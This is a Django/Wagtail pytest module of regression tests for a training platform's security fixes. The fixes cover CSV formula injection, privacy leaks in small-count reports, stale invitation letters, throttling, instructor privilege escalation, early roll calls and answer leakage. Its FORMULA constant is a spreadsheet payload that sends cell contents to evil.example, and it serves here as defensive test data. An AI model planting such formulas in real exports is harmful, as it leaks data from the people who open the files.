"""Known failures of the chain of trust, each reproduced before its fix: formulas in exports, a lone
trainee's results in a focal point's report, visa letters that outlive their reason, instructors
making instructors, roll calls for what has not happened, tests that give their answers away."""

import csv
import datetime as dt
import io
import re

from django.utils import timezone

from wagtail.test.utils.form_data import inline_formset, nested_form_data

import pytest

from courses.choices import AssessmentKind
from courses.models import Attempt, Attendance
from courses.services.enrollment import withdraw
from courses.services.nominations import appoint_focal_point, issue_letter
from tests import factories

pytestmark = pytest.mark.django_db


# === Issue 15: exports, small counts, invitation letters (holes 5, 8 and 9) =====================
# Each case below was reproduced on the code before the fix. The whole classes are covered by
# tests/test_spreadsheet_exports.py (every export), tests/courses/test_reports_small_counts.py
# (every report column for every non-staff role) and the letter's status rule.

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def _with_totp(user):
    factories.TOTPAuthenticatorFactory(user=user)
    return user


def _csv_cells(response) -> list[str]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_a_formula_in_a_course_title_stays_text_in_every_export(client, course_index):
    staff = _with_totp(factories.SuperuserFactory())
    course = factories.CoursePageFactory(parent=course_index, title=FORMULA)
    course.save_revision(user=staff).publish(user=staff)
    factories.EnrollmentFactory(run=factories.CourseRunFactory(course=course))
    client.force_login(staff)
    for path in (
        "/admin/snippets/courses/courserun/",  # the course-run export
        "/admin/training-reports/run/",
        "/admin/training-reports/course/",
        "/admin/reports/site-history/",  # Wagtail's own
        "/admin/reports/aging-pages/",
    ):
        cells = _csv_cells(client.get(path, {"export": "csv"}))
        assert not [cell for cell in cells if cell.startswith("=")], path
        assert any(cell.startswith("'=HYPERLINK") for cell in cells), path


def test_a_focal_point_cannot_read_a_lone_trainees_results_from_the_run_report(
    client, run, settings
):

    settings.LANGUAGE_CODE = "en"
    pre = factories.AssessmentPageFactory(parent=run.course, kind=AssessmentKind.PRE_TEST)
    enrollment = factories.EnrollmentFactory(
        run=run, user=factories.TraineeFactory(profile__country="JO")
    )
    factories.AttemptFactory(enrollment=enrollment, assessment=pre, score=37)
    session = factories.SessionFactory(run=run)
    factories.AttendanceFactory(session=session, enrollment=enrollment)
    focal_point = _with_totp(factories.UserFactory())
    appoint_focal_point(user=focal_point, country="JO", by=None)
    client.force_login(focal_point)
    response = client.get("/admin/training-reports/run/", {"export": "csv"})
    cells = _csv_cells(response)
    assert "37.0" not in cells  # the trainee's pre-test score
    assert "100.0" not in cells  # the trainee's attendance
    page = client.get("/admin/training-reports/run/").content.decode()
    # The score as a number of its own (a bare "37" also turns up inside random tokens).
    assert not re.search(r"(?<![\w.-])37(?:\.0)?(?![\w.-])", page)


def test_training_hours_on_the_impact_page_are_shown_as_they_are(client, home_pages, course):
    page = factories.ImpactPageFactory(parent=home_pages["ar"])
    factories.translate_page(page, "en", title="Our impact")
    run = factories.CourseRunFactory(course=course)  # a 24-hour course
    for _ in range(3):
        factories.EnrollmentFactory(run=run, status="completed")
    html = client.get("/en/impact/").content.decode()
    hours = html.split("Training hours", 1)[1].split("</div>", 1)[0]
    assert "72" in hours and "fewer than 5" not in hours


def test_a_withdrawn_trainees_letter_no_longer_says_they_are_invited(client, run):
    enrollment = factories.EnrollmentFactory(run=run)
    letter = issue_letter(enrollment=enrollment)
    withdraw(enrollment=enrollment, by=enrollment.user)
    html = client.get(f"/en/letters/{letter.code}/").content.decode()
    assert "no longer valid" in html
    assert "withdrew" in html


def test_the_letter_check_is_throttled(client, run, settings):
    settings.CERTIFICATE_VERIFY_LIMIT = 5
    letter = issue_letter(enrollment=factories.EnrollmentFactory(run=run))
    codes = [letter.code] + [f"ABCD-EFGH-{n:04d}" for n in range(5)]
    answers = [client.get(f"/en/letters/{code}/").status_code for code in codes]
    assert answers[-1] == 429


# --- issue 15 (powers): who grants roles, who marks what and when, what a test gives away -------
# (helper "powers"; the other sections belong to other parts of the issue). Imports stay inside
# these tests so that the section is self-contained and the module's head is left to the others.


def test_an_instructor_cannot_make_someone_an_instructor_from_the_course_editor(
    client, course, lessons, mfa_user_factory
):

    instructor = factories.make_instructor(course, mfa_user_factory())
    accomplice = factories.TraineeFactory()
    client.force_login(instructor)
    fields = {"title": course.title, "slug": course.slug, "summary": course.summary}
    fields |= {"hours": course.hours, "level": course.level, "delivery_mode": course.delivery_mode}
    instructors = inline_formset([{"user": accomplice.pk, "name": "Co-instructor", "role": ""}])
    data = nested_form_data({**fields, "instructors": instructors, "action-publish": "publish"})
    client.post(f"/admin/pages/{course.pk}/edit/", data)
    accomplice = type(accomplice).objects.get(pk=accomplice.pk)
    assert not lessons[0].permissions_for_user(accomplice).can_edit()
    assert not accomplice.groups.exists()


def test_no_roll_call_for_a_session_that_has_not_begun_nor_about_oneself(client, course):
    instructor = factories.make_instructor(course)
    run = factories.CourseRunFactory(course=course, running=True)
    begun = factories.SessionFactory(run=run)
    tomorrow = factories.SessionFactory(run=run, starts_at=timezone.now() + dt.timedelta(days=1))
    own = factories.EnrollmentFactory(run=run, user=instructor)
    other = factories.EnrollmentFactory(run=run)
    client.force_login(instructor)
    client.post(
        f"/en/teach/sessions/{tomorrow.public_id}/roll-call/",
        {f"status-{other.public_id}": "present"},
    )
    client.post(
        f"/en/teach/sessions/{begun.public_id}/roll-call/", {f"status-{own.public_id}": "present"}
    )
    assert not Attendance.objects.exists()


def test_a_failed_attempt_with_attempts_left_shows_no_correct_answer(client, post_test, enrollment):
    client.force_login(enrollment.user)
    client.post(f"/en/learn/tests/{post_test.translation_key}/start/")
    attempt = Attempt.objects.get()
    wrong = {"q-q-single": ["a2"], "q-q-multi": ["b3"]}
    result = client.post(f"/en/learn/attempts/{attempt.public_id}/submit/", wrong, follow=True)
    html = result.content.decode()
    assert "Your score: 0%" in html and post_test.max_attempts > 1
    for giveaway in ("choice-correct", "(correct answer)", "Act, means and purpose."):
        assert giveaway not in html
